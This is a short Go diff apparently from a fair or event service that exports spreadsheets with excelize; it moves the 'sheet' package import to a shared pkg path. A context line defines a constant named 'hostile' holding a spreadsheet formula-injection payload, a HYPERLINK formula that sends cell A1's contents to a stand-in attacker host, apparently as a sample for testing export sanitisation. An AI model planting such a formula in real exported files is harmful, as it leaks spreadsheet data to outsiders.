@@ -8,10 +8,10 @@ import (
 	"github.com/xuri/excelize/v2"
 
 	"github.com/ocopfair/ocopfair/pkg/apperr"
+	"github.com/ocopfair/ocopfair/pkg/sheet"
 	"github.com/ocopfair/ocopfair/services/event/internal/applicants"
 	"github.com/ocopfair/ocopfair/services/event/internal/booth"
 	"github.com/ocopfair/ocopfair/services/event/internal/fair"
-	"github.com/ocopfair/ocopfair/services/event/internal/sheet"
 )
 
 const hostile = `=HYPERLINK("http://evil.example/?x="&A1,"x")`
